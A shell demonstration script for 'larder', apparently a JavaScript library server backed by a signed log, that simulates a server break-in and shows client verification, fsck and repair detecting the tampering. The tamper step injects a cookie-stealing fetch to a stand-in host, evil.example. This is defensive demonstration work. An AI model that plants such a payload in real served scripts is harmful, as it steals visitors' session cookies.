#!/bin/sh
# From nothing to a tampering that is found, in a folder of its own: needs no network, takes seconds.
#
#   make demonstration
#
# What each command prints is below the command. The exit code is 0 where everything came as it should.
set -eu
larder=${LARDER:-$PWD/bin/larder}
tamper=${TAMPER:-}
dir=$(mktemp -d)
server=
trap 'test -z "$server" || kill "$server" 2>/dev/null || true; wait; rm -rf "$dir"' EXIT
if [ -z "$tamper" ]; then
	go build -o "$dir/tamper" ./docs/demonstration
	tamper=$dir/tamper
fi
cd "$dir"
export XDG_CONFIG_HOME="$dir/config" # where `larder verify` remembers what it saw

say() { printf '\n# %s\n' "$*"; }
try() { printf '$ %s\n' "$*" | sed "s#$larder#larder#;s#$tamper#tamper#"; "$@"; }
must_fail() { if try "$@"; then echo "this had to fail" >&2; exit 1; else echo "(exit code $?)"; fi; }
start() {
	"$larder" serve --catalogue catalogue --listen 127.0.0.1:0 --private-listen off --log-origin demonstration.example/log --ready-file ready >>out 2>&1 &
	server=$!
	while ! [ -s ready ]; do
		kill -0 "$server" || { cat out; exit 1; }
		sleep 0.1
	done
	address=$(cat ready)
	url=$address/ajax/libs/counter/1.0.0/counter.js
}
publish() {
	try "$larder" import counter 1.0.0 files
	newest=$("$larder" log list --limit 1 --json | sed -n 's/.*"index": \([0-9]*\).*/\1/p')
	until [ "$(curl -sS "$address/log/checkpoint" | sed -n 2p)" -gt "$newest" ]; do
		sleep 0.1 # what was published is signed a moment later
	done
}
stop() { kill "$server"; wait "$server" || true; server=; }

mkdir catalogue files
cat >catalogue/counter.json <<END
{"name": "counter", "description": "Counts.", "keywords": ["count"], "filename": "counter.js",
 "repository": {"type": "git", "url": "https://git.example/counter.git"}}
END
echo 'let n = 0; function count() { return ++n }' >files/counter.js

say "A server, and a library in it."
start
publish
try curl -sS "$url"

say "A user of it pins the log's key, which is in the server's key folder, and verifies the file."
try cp keys/log.pub pinned.pub
try "$larder" verify --key pinned.pub "$url"

say "An attacker breaks into the server and changes the file, its hash, its checksums and its integrity."
stop
try "$tamper" data counter 1.0.0 counter.js 'fetch("https://evil.example/?" + document.cookie)'
start

say "The server knows no better: it serves the file, and gives the tag for it."
try curl -sS "$url"
try "$larder" tag counter@1.0.0 counter.js

say "A client that verifies the file notices."
must_fail "$larder" verify --key pinned.pub "$url"

say "The operator learns which rows were changed, and makes them again from the log."
must_fail "$larder" fsck --all
stop
try "$larder" repair
start
try "$larder" verify --key pinned.pub "$url"

say "The attacker begins the log anew with another key, so that all fits together."
stop
rm -r data keys
echo 'let n = 0; function count() { return n += 2 }' >files/counter.js
start
publish
must_fail "$larder" verify --key pinned.pub "$url"
stop
